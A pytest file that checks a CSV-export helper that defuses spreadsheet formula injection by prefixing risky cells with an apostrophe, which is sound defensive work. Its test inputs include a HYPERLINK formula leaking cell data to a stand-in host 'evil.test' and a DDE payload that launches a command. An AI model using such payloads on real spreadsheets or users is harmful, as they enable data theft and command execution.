"""core.common.csv_safe: cells a spreadsheet would run as formulas are defused; numbers stay numbers."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from core.common.csv_safe import FORMULA_START, csv_bytes, escape_formula, escape_frame


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.test/?x="&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+2",
        "\r=1+2",
        "=",
        "-",
        "-inf",
        "--1",
        "-1e5e5",
        "+cmd|' /C calc'!A0",
    ],
)
def test_formulas_get_a_leading_apostrophe(value: str) -> None:
    assert escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["-1", "-0.5", "+3", "-.5", "-2e-3", "+1E10", "-10.", "5000000", "0"])
def test_plain_numbers_stay_readable(value: str) -> None:
    assert escape_formula(value) == value


@pytest.mark.parametrize("value", ["", "Toy Story", "inf", "NaN", "four", " =1+1", "a=b", "'=already"])
def test_text_that_does_not_start_a_formula_is_unchanged(value: str) -> None:
    assert escape_formula(value) == value


def test_every_formula_start_is_covered() -> None:
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    assert all(escape_formula(c + "x").startswith("'") for c in FORMULA_START)


def test_escape_frame_touches_text_cells_and_headers_only() -> None:
    frame = pd.DataFrame(
        {
            "title": ["=1+1", "ok", None, "-1"],
            "n": [-1, 2, 3, 4],
            "score": [-0.5, np.nan, 1.0, 2.0],
            "mixed": ["@x", 5, -3.5, "+1"],
            "=evil": ["a", "b", "c", "d"],
        }
    )
    original = frame.copy()
    out = escape_frame(frame)
    assert out["title"].tolist()[:2] == ["'=1+1", "ok"] and out["title"].iloc[3] == "-1"
    assert pd.isna(out["title"].iloc[2])
    assert out["n"].tolist() == [-1, 2, 3, 4] and out["n"].dtype == np.int64
    assert out["score"].iloc[0] == -0.5
    assert out["mixed"].tolist() == ["'@x", 5, -3.5, "+1"]
    assert list(out.columns) == ["title", "n", "score", "mixed", "'=evil"]
    pd.testing.assert_frame_equal(frame, original)  # the input is not modified


def test_escape_frame_handles_arrow_string_columns() -> None:
    frame = pd.DataFrame({"s": pd.Series(["=A1", "b"], dtype="str")})
    assert escape_frame(frame)["s"].tolist() == ["'=A1", "b"]


def test_csv_bytes_is_excel_friendly_and_round_trips() -> None:
    frame = pd.DataFrame({"title": ['=HYPERLINK("x")', "Toy, Story", "-1+1", "@SUM(A1)"], "n": [1, -2, 3, 4]})
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.StringIO(data.decode("utf-8-sig")))
    assert back["title"].tolist() == ["'=HYPERLINK(\"x\")", "Toy, Story", "'-1+1", "'@SUM(A1)"]
    assert back["n"].tolist() == [1, -2, 3, 4]


def test_csv_bytes_of_an_empty_frame_has_the_header() -> None:
    assert csv_bytes(pd.DataFrame(columns=["a", "b"])).decode("utf-8-sig").strip() == "a,b"
